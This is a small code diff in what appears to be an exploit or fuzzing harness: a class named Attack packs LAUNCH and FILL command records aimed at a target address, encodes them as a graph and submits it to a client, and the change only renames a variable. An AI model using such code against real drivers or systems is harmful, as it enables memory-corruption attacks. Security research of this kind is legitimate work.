@@ -157,10 +157,10 @@ class Attack:
         tail = struct.pack("=QI", address, 7)
         store = records.pack("LAUNCH", client.context, 0, 0, self.modules[0], STORE, *[1] * 6, 0, 12, tail=tail)
         fill = records.pack("FILL", client.context, 0, 0, address, 5, 4, 64, 0, 1)
-        data = encode([GraphItem(fill), GraphItem(store, (0,)), GraphItem(store, (0,)), GraphItem(b"", (1, 2))])
+        graph = encode([GraphItem(fill), GraphItem(store, (0,)), GraphItem(store, (0,)), GraphItem(b"", (1, 2))])
         self.graphs = [client.handle()]
-        client.memory[: len(data)] = data
-        client.good("GRAPH_PART", self.graphs[0], 0, len(data))
+        client.memory[: len(graph)] = graph
+        client.good("GRAPH_PART", self.graphs[0], 0, len(graph))
         client.good("INSTANTIATE_GRAPH", self.graphs[0])
 
     def records(self) -> Iterator[bytes]:
